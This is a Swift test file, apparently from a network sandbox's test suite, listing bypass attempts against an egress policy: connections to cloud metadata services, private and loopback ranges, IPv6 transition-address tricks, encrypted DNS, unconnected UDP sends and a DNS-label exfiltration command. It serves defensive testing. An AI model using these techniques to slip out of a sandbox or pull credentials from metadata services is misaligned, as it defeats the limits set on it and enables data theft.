// SPDX-License-Identifier: Apache-2.0

import TestSupport

private let attack = "/usr/bin/python3 $WORLD/programs/attack.py"
private let denied = TestWorld.deniedAddress
private let allowed = TestWorld.allowedAddress

private func tcp(_ title: String, _ address: String, _ port: Int = 4444) -> Attempt {
    Attempt(title: title, line: "\(attack) tcp \(address) \(port)")
}

extension BypassCorpus {
    /// Addresses that were not allowed, by TCP.
    static let addresses: [Attempt] = [
        tcp("1 a public address", denied),
        tcp("2 the metadata service", "169.254.169.254", 80),
        tcp("2 the metadata service over IPv6", "fd00:ec2::254", 80),
        tcp("2 another cloud's metadata service", "100.100.100.200", 80),
        tcp("3 the local network, 10/8", "10.0.0.5", 80),
        tcp("3 the local network, 172.16/12", "172.16.0.5", 80),
        tcp("3 the local network, 192.168/16", "192.168.1.10", 80),
        tcp("3 the host's loopback", "127.0.0.1"),
        tcp("3 another loopback address of the host", "127.0.0.2"),
        tcp("3 the host's IPv6 loopback", "::1"),
        tcp("4 an allowed address, another port", allowed),
        tcp("5 a public IPv6 address", "2606:50c0:8000::153"),
        tcp("6 IPv4-mapped", "::ffff:10.0.0.5"),
        tcp("6 IPv4-mapped metadata", "::ffff:169.254.169.254", 80),
        tcp("7 NAT64", "64:ff9b::a00:5"),
        tcp("7 NAT64 for local use", "64:ff9b:1::a00:5"),
        tcp("8 6to4", "2002:a00:5::1"),
        tcp("8 Teredo", "2001:0:5db8:d822::f5ff:fffa"),
        tcp("8 IPv4-compatible", "::10.0.0.5"),
        tcp("8 documentation", "2001:db8::5"),
        tcp("8 unique local", "fd00::5"),
        Attempt(title: "9 link-local with a zone", line: "\(attack) scoped fe80::5 4444 lo"),
        tcp("10 the unspecified address", "0.0.0.0"),
        tcp("10 the unspecified IPv6 address", "::"),
        tcp("15 DNS over TLS", "1.1.1.1", 853),
        tcp("15 DNS over HTTPS", "1.1.1.1", 443),
        tcp("15 DNS over HTTPS, IPv6", "2606:4700:4700::1111", 443),
    ]

    /// The same by datagram.
    static let datagrams: [Attempt] = [
        Attempt(title: "1 a datagram", line: "\(attack) udp-connected \(denied) 4444"),
        Attempt(title: "3 a datagram to the local network", line: "\(attack) udp-connected 10.0.0.5 4444"),
        Attempt(title: "3 a datagram to the host's loopback", line: "\(attack) udp-connected 127.0.0.1 4444"),
        Attempt(title: "4 a datagram to an allowed address", line: "\(attack) udp-connected \(allowed) 4444"),
        Attempt(title: "5 a datagram over IPv6", line: "\(attack) udp-connected 2606:50c0:8000::153 4444"),
        Attempt(title: "6 a datagram to a mapped address", line: "\(attack) udp-connected ::ffff:10.0.0.5 4444"),
        Attempt(title: "QUIC", line: "\(attack) udp-connected \(denied) 443"),
        Attempt(title: "25 an unconnected datagram", line: "\(attack) udp \(denied) 4444", ending: .answered),
        Attempt(
            title: "24 a datagram socket that is connected again",
            line: "\(attack) udp-dissolved \(allowed) 7002 \(denied) 4444",
            policy: TestWorld.policy + ["--allow", "\(allowed):7002"],
            ending: .answered
        ),
        Attempt(
            title: "25 a connected datagram socket that sends elsewhere",
            line: "\(attack) udp-elsewhere \(allowed) 7002 \(denied) 4444",
            policy: TestWorld.policy + ["--allow", "\(allowed):7002"],
            ending: .answered
        ),
        Attempt(
            title: "25 one batch to an allowed and another address",
            line: "mixed-glibc \(allowed) 7002 \(denied) 4444",
            policy: TestWorld.policy + ["--allow", "\(allowed):7002"],
            ending: .answered
        ),
        Attempt(title: "25 packet info", line: "\(attack) udp-packet-info \(denied) 4444", ending: .answered),
        Attempt(title: "15 a resolver of its own", line: "\(attack) dns-udp 8.8.8.8", ending: .answered),
        Attempt(title: "15 a resolver over IPv6", line: "\(attack) dns-udp 2606:4700:4700::1111", ending: .answered),
        Attempt(title: "15 a resolver over TCP", line: "\(attack) dns-tcp 9.9.9.9", ending: .answered),
        Attempt(
            title: "16 data in the labels of a denied name",
            line: "dig +tries=1 +time=1 @8.8.8.8 secret-data.denied.example",
            ending: .answered
        ),
    ]
}
